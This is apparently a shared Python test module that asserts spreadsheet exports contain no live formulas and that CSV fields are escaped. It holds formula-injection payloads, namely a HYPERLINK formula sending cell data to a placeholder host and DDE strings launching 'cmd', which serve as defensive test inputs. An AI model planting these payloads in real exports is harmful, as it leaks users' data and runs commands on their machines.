"""Assertions shared by the export tests of every app: no live formula in an XLSX, escaped text in a CSV."""

from __future__ import annotations

import csv
import io
import re
import zipfile

# The red-team strings of finding H1, and a few more of the same family.
HYPERLINK = '=HYPERLINK("http://x/?"&A2,"x")'
DDE = "=cmd|' /C calc'!A0"
ATTACKS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def assert_no_formula_xlsx(data: bytes, expected: tuple[str, ...] = ()) -> None:
    """No sheet holds a formula (raw XML), every cell holding one of ``expected`` is text, each is present."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"formula element in {name}"
    book = load_workbook(io.BytesIO(data))
    found = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if cell.value in expected:
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} is not text"
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} has no quote prefix"
                    found.add(cell.value)
    assert found == set(expected), f"missing from the workbook: {set(expected) - found}"


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV without the UTF-8 BOM Excel needs"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_escaped_csv(data: bytes, expected: tuple[str, ...] = ()) -> None:
    """No CSV field begins with a dangerous character; each of ``expected`` is there, escaped with "'"."""
    fields = [f for row in csv_rows(data) for f in row]
    for value in fields:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), f"unescaped field {value!r}"
        # "-" is allowed only for a number (written unquoted, as a number)
        if value.startswith("-"):
            float(value)
    for value in expected:
        assert "'" + value in fields, f"{value!r} not in the CSV as '{value}"
